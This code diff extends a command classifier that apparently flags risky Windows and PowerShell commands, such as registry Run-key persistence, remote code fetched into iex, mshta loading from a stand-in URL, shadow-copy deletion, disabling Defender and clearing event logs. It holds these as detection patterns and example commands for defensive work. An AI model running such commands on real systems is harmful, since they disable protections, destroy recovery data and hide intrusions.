@@ -1,6 +1,7 @@
 import { addRoles, type Call, deletes, known, plays, reads, reveals, sends, talks, writes } from "./call.ts";
 import type { Word } from "../parse/command.ts";
 import { tellSql } from "./databases.ts";
+import { showsVariables } from "./power-shell-line.ts";
 import type { Programs } from "./program.ts";
 
 /** Programs and cmdlets of Windows, where the words show them. */
@@ -18,6 +19,7 @@ export const WINDOWS = (): Programs => ({
       ["Remove-Item -Path a -r", "delete", "deletes a tree"],
       ["Remove-Item -Recurse a -WhatIf"],
       ["Remove-Item a -WhatIf:$false", "delete", "deletes a"],
+      ["Remove-Item a -ErrorAction Ignore", "delete", "deletes a"],
     ],
   },
   "del erase rd": {
@@ -52,7 +54,7 @@ export const WINDOWS = (): Programs => ({
   },
   "set-itemproperty new-itemproperty set-executionpolicy set-service new-service register-scheduledtask": {
     is: {
-      scheduler: "new-service register-scheduledtask",
+      scheduler: "new-service register-scheduledtask set-itemproperty new-itemproperty",
       "system-settings": "set-executionpolicy set-itemproperty new-itemproperty",
     },
     does: (call) => {
@@ -60,11 +62,15 @@ export const WINDOWS = (): Programs => ({
       const isOwn = /^set-executionpolicy$/i.test(call.told.program)
         ? /\bprocess\b|\bremotesigned\b|\brestricted\b|\ballsigned\b/i.test(words)
         : /property$/i.test(call.told.program) && !/^(?:-path\s+)?["']?HK(?:LM|CR|U):|HKEY_LOCAL_MACHINE/i.test(words);
+      if (/\/Run(?:Once)?(?:$|[\s"'/])/i.test(words.replaceAll("\\", "/"))) plays(call, "persistence");
       if (isOwn) return;
       plays(call, "settings");
       if (/service|task/i.test(call.told.program)) plays(call, "persistence");
     },
-    examples: [["Set-ExecutionPolicy Bypass", "settings"]],
+    examples: [
+      ["Set-ExecutionPolicy Bypass", "settings"],
+      ["New-ItemProperty HKCU:/Software/Run -Name x", "persistence"],
+    ],
   },
   "get-content gc type-object select-string": {
     is: { "prints-files": true },
@@ -185,11 +191,14 @@ export const WINDOWS = (): Programs => ({
         plays(call, "kill", "power");
       if (/frombase64string/i.test(line) && /scriptblock|\biex\b|invoke-expression|\.invoke\(|^\s*&/i.test(line))
         runs(call, "text");
-      const isFetched = /\b(?:iex|invoke-expression)\b|\.invoke\(/i.test(line) && FETCHES.test(line);
+      const isFetched =
+        /\b(?:iex|invoke-expression)\b|\.invoke\(|scriptblock\]::create/i.test(line) && FETCHES.test(line);
       if (isHidden) runs(call, "text");
       if (isFetched) runs(call, "network");
       const script = call.command.args.find(({ text }) => /\.ps1$/i.test(text));
       if (script !== undefined) call.told.scripts.push(script);
+      if (script !== undefined && FROM_ELSEWHERE.test(script.text)) runs(call, "network");
+      if (showsVariables(line)) reveals(call);
       if (call.command.args.every(({ text }) => text.startsWith("-"))) call.told.input = "run";
     },
     examples: [
@@ -211,7 +220,7 @@ export const WINDOWS = (): Programs => ({
   },
   "mshta regsvr32 rundll32 wscript cscript": {
     does: (call) => {
-      if (call.command.args.some(({ text }) => /https?:|javascript:|vbscript:/i.test(text))) runs(call, "network");
+      if (call.command.args.some(({ text }) => FROM_ELSEWHERE.test(text))) runs(call, "network");
     },
     examples: [["mshta http://h.test/x.hta", "run-code", "network flows to shell"]],
   },
@@ -235,6 +244,8 @@ export const WINDOWS = (): Programs => ({
     does: (call) => {
       const words = call.command.args.map(({ text }) => text.toLowerCase());
       if (words.some((text) => /^(?:delete|\/w|\/set|\/delete)/.test(text))) plays(call, "work-loss", "settings");
+      // What was deleted can be brought back no more.
+      if (words.some((text) => /^\/w(?:$|:)/.test(text))) plays(call, "disk");
       // Copies of a volume from before.
       if (words.some((text) => /^(?:shadows|shadowcopy|shadowstorage|catalog|systemstatebackup|backup)$/.test(text)))
         if (words.includes("delete")) plays(call, "disk");
@@ -245,10 +256,26 @@ export const WINDOWS = (): Programs => ({
       ["vssadmin list shadows"],
     ],
   },
-  "set-mppreference add-mppreference set-netfirewallprofile disable-computerrestore": {
-    is: { "system-settings": true },
-    does: (call) => plays(call, "settings"),
-    examples: [["Set-MpPreference -DisableRealtimeMonitoring 1", "settings"]],
+  "set-mppreference add-mppreference set-netfirewallprofile set-netfirewallrule new-netfirewallrule remove-netfirewallrule disable-netfirewallrule disable-computerrestore disable-windowsoptionalfeature set-smbserverconfiguration":
+    {
+      is: { "system-settings": true },
+      does: (call) => plays(call, "settings"),
+      examples: [["Set-MpPreference -DisableRealtimeMonitoring 1", "settings"]],
+    },
+  "clear-eventlog remove-eventlog clear-history": {
+    does: (call) => plays(call, "trace-removal"),
+    examples: [["Clear-EventLog -LogName Security", "trace-removal"]],
+  },
+  "compress-archive expand-archive": {
+    does: (call) => {
+      const [from, to] = paths(call);
+      reads(call, from, { isTree: true });
+      writes(call, to, /^expand/i.test(call.told.program) ? { isTree: true, by: "unpack" } : {});
+    },
+    examples: [
+      ["Compress-Archive a b.zip", "reads a tree", "writes b.zip"],
+      ["Expand-Archive a.zip -DestinationPath b", "reads a.zip tree", "writes b tree"],
+    ],
   },
   "new-localuser remove-localuser set-localuser add-localgroupmember remove-aduser set-adaccountpassword disable-adaccount add-adgroupmember":
     {
@@ -313,6 +340,9 @@ export const WINDOWS = (): Programs => ({
   },
 });
 
+/** An address, code in one, or a share of another machine; a shell of Unix leaves one backslash of two. */
+const FROM_ELSEWHERE = /https?:|javascript:|vbscript:|^\\{1,2}(?:\d+\.|[\w-]+[.\\])/i;
+
 const FETCHES =
   /\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b|\.Download(?:String|Data|File)\(|Net\.Sockets\.TCPClient/i;
 
@@ -335,10 +365,11 @@ function flag({ command }: Call, name: string): boolean {
   );
 }
 
+/** Parameters of cmdlets that take a value which is no path, by their names and their short ones. */
+const VALUED =
+  /^-(?:filter|include|exclude|value|itemtype|encoding|(?:error|warning|information|progress)(?:action|variable)|ea|ev|wa|wv|ov|ob|out(?:variable|buffer)|depth|totalcount|tail|head|first|last|stream|delimiter|credential|pattern|width|property)$/i;
+
 /** What follows a parameter that takes no path is not one. */
 function paths({ command }: Call): readonly Word[] {
-  return command.args.filter(
-    ({ text }, at, all) =>
-      !text.startsWith("-") && !/^-(?:filter|include|exclude|value|itemtype|encoding)/i.test(all[at - 1]?.text ?? ""),
-  );
+  return command.args.filter(({ text }, at, all) => !text.startsWith("-") && !VALUED.test(all[at - 1]?.text ?? ""));
 }
